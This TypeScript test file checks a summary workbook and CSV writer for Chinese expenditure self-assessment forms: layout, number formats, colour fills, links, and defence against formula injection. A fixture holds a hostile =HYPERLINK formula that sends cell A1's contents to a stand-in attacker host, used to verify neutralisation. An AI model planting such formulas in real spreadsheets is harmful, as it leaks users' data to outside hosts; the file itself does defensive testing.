import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { unzipSync, strFromU8 } from 'fflate';
import { SEVERITY_FILL } from '../../src/core/vocabulary';
import { neutraliseCsvText, writeSummary, type SummaryRow } from '../../src/xlsx/writeSummary';

const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';
const base: SummaryRow = { file: 'a.xlsx', sheet: '自评表', kind: 'dept', unit: '上海市某中心', year: 2024, total: '98.8', grade: '优', errors: 0, warnings: 0, note: null };
const ROWS: SummaryRow[] = [
  { ...base, errors: 2, warnings: 1, infos: 3, rate: '99.27', copy: 'checked/a.checked.xlsx' },
  { ...base, file: 'b.xlsx', kind: 'project', unit: HOSTILE, total: '95.735', rate: null, copy: null },
  { ...base, file: 'c.xlsx', sheet: null, kind: null, unit: null, year: null, total: null, grade: null, errors: null, warnings: null, note: '无法读取：文件已损坏', unreadable: true },
];

let dir: string;
beforeAll(() => void (dir = fs.mkdtempSync(path.join(os.tmpdir(), 'summary-'))));
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

let written: Promise<{ ws: ExcelJS.Worksheet; sheetXml: string; file: string }> | null = null;
/** The .xlsx written once and read back with exceljs, and its sheet XML. */
function readBack(): Promise<{ ws: ExcelJS.Worksheet; sheetXml: string; file: string }> {
  return (written ??= writeAndRead());
}
async function writeAndRead(): Promise<{ ws: ExcelJS.Worksheet; sheetXml: string; file: string }> {
  const file = path.join(dir, 'summary.xlsx');
  await writeSummary(file, ROWS);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  const sheetXml = strFromU8(unzipSync(fs.readFileSync(file))['xl/worksheets/sheet1.xml']);
  return { ws: wb.getWorksheet('汇总')!, sheetXml, file };
}

const headerIndex = (ws: ExcelJS.Worksheet, name: string): number => (ws.getRow(1).values as unknown[]).indexOf(name);

describe('summary workbook (.xlsx)', () => {
  test('writes exactly the file it is given, and nothing beside it', async () => {
    const { file } = await readBack();
    expect(fs.readdirSync(dir).filter((n) => n.endsWith('.xlsx'))).toEqual([path.basename(file)]);
    expect(fs.readdirSync(dir).filter((n) => !/\.(xlsx|csv)$/.test(n))).toEqual([]);
  });
  test('the header row is frozen and filtered over every row', async () => {
    const { ws, sheetXml } = await readBack();
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheetXml).toMatch(/<pane [^>]*ySplit="1"[^>]*state="frozen"/);
    expect(sheetXml).toContain(`<autoFilter ref="A1:M${ROWS.length + 1}"`);
    expect(ws.getRow(1).font?.bold).toBe(true);
  });
  test.each([
    ['总分', 2, 98.8, '0.00'],
    ['总分', 3, 95.735, '0.00'],
    ['执行率(%)', 2, 99.27, '0.00'],
    ['年度', 2, 2024, '0'],
    ['错误', 2, 2, '0'],
  ])('%s (row %i) is the number %d shown as %s', async (header, row, value, numFmt) => {
    const { ws } = await readBack();
    const cell = ws.getRow(row).getCell(headerIndex(ws, header));
    expect(cell.value).toBe(value);
    expect(cell.numFmt).toBe(numFmt);
  });
  test('kinds are named in Chinese', async () => {
    const { ws } = await readBack();
    expect(ws.getRow(2).getCell(headerIndex(ws, '类型')).value).toBe('部门(单位)整体支出绩效自评表');
  });
  test.each([
    ['错误', 2, SEVERITY_FILL.error],
    ['警告', 2, SEVERITY_FILL.warning],
    ['备注', 4, SEVERITY_FILL.error],
  ])('the %s cell of row %i has its severity fill', async (header, row, colour) => {
    const { ws } = await readBack();
    const fill = ws.getRow(row).getCell(headerIndex(ws, header)).fill as ExcelJS.FillPattern;
    expect(fill.fgColor?.argb).toBe(`FF${colour.slice(1)}`);
  });
  test('a row without findings has no fill', async () => {
    const { ws } = await readBack();
    expect((ws.getRow(3).getCell(headerIndex(ws, '错误')).fill as ExcelJS.FillPattern | undefined)?.fgColor).toBeUndefined();
  });
  test('each annotated copy is a hyperlink; a row without one has none', async () => {
    const { ws } = await readBack();
    const col = headerIndex(ws, '标注副本');
    expect(ws.getRow(2).getCell(col).hyperlink).toBe('checked/a.checked.xlsx');
    expect(ws.getRow(3).getCell(col).value).toBeNull();
  });
  test('a unit name that looks like a formula is a string cell, never a formula', async () => {
    const { ws, sheetXml } = await readBack();
    const cell = ws.getRow(3).getCell(headerIndex(ws, '单位 / 项目'));
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(HOSTILE);
    expect(sheetXml).not.toContain('<f>');
  });
});

describe('summary CSV', () => {
  async function csv(): Promise<string> {
    const file = path.join(dir, 'summary.csv');
    await writeSummary(file, ROWS);
    return fs.readFileSync(file, 'utf8');
  }
  test('is UTF-8 with a BOM, CRLF lines, one per row after the header', async () => {
    const text = await csv();
    expect(text.startsWith('\ufeff文件,')).toBe(true);
    expect(text.split('\r\n')).toHaveLength(ROWS.length + 2);
  });
  test('the =HYPERLINK( unit name is neutralised with an apostrophe (and quoted for its commas)', async () => {
    const line = (await csv()).split('\r\n')[2];
    expect(line).toContain(`"'${HOSTILE.replace(/"/g, '""')}"`);
  });
  test('decimals and counts are written as they are', async () => {
    const line = (await csv()).split('\r\n')[1];
    expect(line.split(',').slice(4, 11)).toEqual(['2024', '98.8', '优', '99.27', '2', '1', '3']);
  });
  test.each([
    ['=1+1', "'=1+1"],
    ['+86 21', "'+86 21"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ['上海=1', '上海=1'],
    ['', ''],
  ])('neutraliseCsvText(%j) is %j', (text, expected) => expect(neutraliseCsvText(text)).toBe(expected));
});
